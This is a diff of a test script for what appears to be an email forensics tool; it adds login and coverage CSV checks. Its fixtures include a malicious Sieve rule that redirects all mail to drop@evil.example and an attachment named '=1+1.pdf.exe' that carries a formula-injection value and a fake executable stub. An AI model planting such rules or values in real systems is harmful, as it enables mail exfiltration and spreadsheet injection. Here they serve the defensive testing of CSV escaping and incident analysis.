@@ -28,6 +28,8 @@ with open("in/program.eml", "wb") as out:
     out.write(b"From: a@evil.example\r\nTo: owner@acme.example\r\nSubject: Invoice\r\nDate: Mon, 02 Jun 2025 11:00:00 +0000\r\n"
               b"MIME-Version: 1.0\r\nContent-Type: application/octet-stream; name=\"=1+1.pdf.exe\"\r\n"
               b"Content-Disposition: attachment; filename=\"=1+1.pdf.exe\"\r\n\r\nMZ" + bytes(60) + b"PE" + bytes(200))
+with open("in/signins.csv", "w") as out: # which does not tell how many mails were read
+    out.write("time,user,ip,result\n2026-03-10T21:04:43Z,owner@acme.example,203.0.113.9,success\n")
 with open("in/rules.sieve", "w") as out:
     out.write('if true { redirect "drop@evil.example"; }\n')
 PYTHON
@@ -64,6 +66,8 @@ code 0 "$program" verify c
 echo 'a passphrase of some length' >word
 code 0 "$program" seal c --passphrase-command 'cat word'
 find c.case -type f | sort | xargs sha256sum >before
+code 10 "$program" coverage c --json
+mv out coverage.json
 code 0 "$program" export c --format stix -o sealed.json
 grep -q 'journal does not name this' out
 find c.case -type f | sort | xargs sha256sum | cmp - before
@@ -97,7 +101,8 @@ for item in items:
 if len(items) != len(given) or len(re.findall(rb"(?m)^From ", box)) != len(given):
     wrong("mbox: another number of mails")
 
-for name, columns in (("findings", 12), ("messages", 13), ("indicators", 11), ("timeline", 8)):
+for name, columns in (("findings", 12), ("messages", 13), ("indicators", 11), ("timeline", 8),
+                      ("logins", 17), ("coverage", 5)):
     text = open(f"csv/{name}.csv", "rb").read()
     if not text.startswith(b"\xef\xbb\xbf") or text.count(b"\r\n") != text.count(b"\n"):
         wrong("csv:", name, "byte order mark or line ends")
@@ -124,6 +129,20 @@ for name, columns in (("messages", ("folder", "from", "to", "subject", "message_
     for column in columns:
         if not any((row[column] or "").startswith("'") for row in rows):
             wrong(f"csv: {name}: no formula came as far as the column {column}; is it tried at all?")
+
+def table(name):
+    return list(csv.DictReader(open(f"csv/{name}.csv", encoding="utf-8-sig", newline="")))
+
+# What is not known is an empty cell, and no number.
+if [row["messages_read"] for row in table("logins")] != [""]:
+    wrong("csv: how many mails were read is not known", table("logins"))
+if any(row["lure_score"].startswith("-") for row in table("messages")):
+    wrong("csv: a score where none was given")
+if any((row["finding"] == "") != (row["source"] == "hand") for row in table("indicators")):
+    wrong("csv: the finding of what somebody added by hand")
+if [(row["check"], row["state"]) for row in table("coverage")] != [
+        (row["check"], row["state"]) for row in json.load(open("coverage.json"))["items"]]:
+    wrong("csv: coverage", table("coverage"))
 
 seen = 0
 for line in open("timesketch", encoding="utf-8"):
